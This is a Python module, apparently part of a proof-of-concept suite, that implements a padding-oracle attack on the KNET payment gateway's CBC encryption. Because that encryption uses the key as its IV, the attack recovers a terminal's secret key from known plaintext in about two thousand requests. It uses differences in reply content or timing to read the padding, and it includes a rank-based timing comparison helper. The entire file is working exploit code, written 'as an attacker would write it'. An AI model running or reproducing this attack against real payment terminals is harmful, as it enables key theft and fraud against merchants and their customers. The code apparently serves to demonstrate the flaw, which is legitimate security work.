"""
The attack on KNET's cipher, as an attacker would write it: a padding oracle, and from it the terminal's key.

KNET decrypts in CBC mode with the key as initialisation vector, and a start message stands in the customer's url. Its
first block of plaintext is known: ``id=`` and the terminal's id, which stands in the url too, then ``&password=``. Who
learns what the cipher makes of the first block of ciphertext has the key: it is that, xor the known plaintext.
A receiver that tells right padding from wrong tells just that, octet by octet, in about two thousand requests.
"""

from __future__ import annotations

import asyncio
import statistics
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Sequence
from dataclasses import dataclass, field
from random import Random
from typing import Final

from proofs.support.many_sources import Reply

BLOCK: Final = 16
_VALUES: Final = range(256)

Ask = Callable[[bytes], Awaitable[Reply]]
"""Sends a ciphertext to the receiver."""


@dataclass(frozen=True, slots=True)
class Recovery:
    """What an attack brought."""

    key: bytes
    """What the attacker believes the key to be."""
    requests_count: int
    answers: frozenset[bytes]
    """The different answers that came."""

    def right_octets(self, key: bytes) -> int:
        """How many octets of *key* the attacker has."""
        return sum(one == other for one, other in zip(self.key, key, strict=True))


def known_plaintext(tranportal_id: str) -> bytes:
    """The first block of every start message of a terminal."""
    return f"id={tranportal_id}&password=".encode()[:BLOCK]


@dataclass
class PaddingAttack:
    """One attack on one receiver."""

    ask: Ask
    first_block: bytes
    """Of a start message's ciphertext."""
    known: bytes
    """That block's plaintext."""
    random: Random
    rounds: int = 1
    """How often each guess is sent: where answers are equal only time can tell, and time is noisy."""
    _replies: list[Reply] = field(default_factory=list)

    async def run(self, *, octet_count: int = BLOCK) -> Recovery:
        """Find the last *octet_count* octets of what the cipher makes of the block, from the end; guess the others."""
        decrypted = bytearray(self.random.randbytes(BLOCK))
        before = bytearray(self.random.randbytes(BLOCK))
        for position in reversed(range(BLOCK - octet_count, BLOCK)):
            padding = BLOCK - position
            for later in range(position + 1, BLOCK):
                before[later] = decrypted[later] ^ padding
            decrypted[position] = await self._find(before, position) ^ padding
        key = bytes(one ^ other for one, other in zip(decrypted, self.known, strict=True))
        return Recovery(key, len(self._replies), frozenset(reply.octets for reply in self._replies))

    async def _find(self, before: bytearray, position: int) -> int:
        """The value at *position* of the block before that makes the padding right."""
        replies = await self._try_all(before, position, _VALUES)
        odd = _odd_ones(replies)
        if len(odd) > 1 and position > 0:
            # Longer paddings are right too, by chance; they are not when the octet before is another one.
            before = bytearray(before)
            before[position - 1] ^= 0xFF
            odd = _odd_ones(await self._try_all(before, position, _VALUES)) & odd or odd
        return min(odd) if odd else _slowest(replies)

    async def _try_all(
        self, before: bytearray, position: int, values: Iterable[int]
    ) -> dict[int, list[Reply]]:
        guesses = [value for _ in range(self.rounds) for value in values]
        self.random.shuffle(guesses)
        answers = await asyncio.gather(*(self._try(before, position, value) for value in guesses))
        replies: dict[int, list[Reply]] = {}
        for value, reply in zip(guesses, answers, strict=True):
            replies.setdefault(value, []).append(reply)
        return replies

    async def _try(self, before: bytearray, position: int, value: int) -> Reply:
        block = bytearray(before)
        block[position] = value
        reply = await self.ask(bytes(block) + self.first_block)
        self._replies.append(reply)
        return reply


def _odd_ones(replies: dict[int, list[Reply]]) -> set[int]:
    """The guesses that were answered otherwise than most."""
    usual, _ = Counter(reply.octets for each in replies.values() for reply in each).most_common(1)[0]
    return {value for value, each in replies.items() if any(reply.octets != usual for reply in each)}


def _slowest(replies: dict[int, list[Reply]]) -> int:
    """The guess that took longest: reading on takes time."""
    return max(replies, key=lambda value: statistics.median(reply.seconds for reply in replies[value]))


@dataclass(frozen=True, slots=True)
class TimeDifference:
    """How two samples of times differ, by ranks: a few slow answers do not matter."""

    median_us: float
    """The median of the first less that of the second, in microseconds."""
    z: float
    """Mann and Whitney's statistic; between -3 and 3 for samples that do not differ, but once in 370 times."""


def compare_times(first: Sequence[float], second: Sequence[float]) -> TimeDifference:
    """Compare two samples of seconds."""
    ranked = sorted([(value, True) for value in first] + [(value, False) for value in second])
    rank_sum = sum(rank for rank, (_, is_first) in enumerate(ranked, start=1) if is_first)
    count, other = len(first), len(second)
    mean = count * (count + other + 1) / 2
    deviation = (count * other * (count + other + 1) / 12) ** 0.5
    median_us = (statistics.median(first) - statistics.median(second)) * 1e6
    return TimeDifference(median_us, (rank_sum - mean) / deviation)
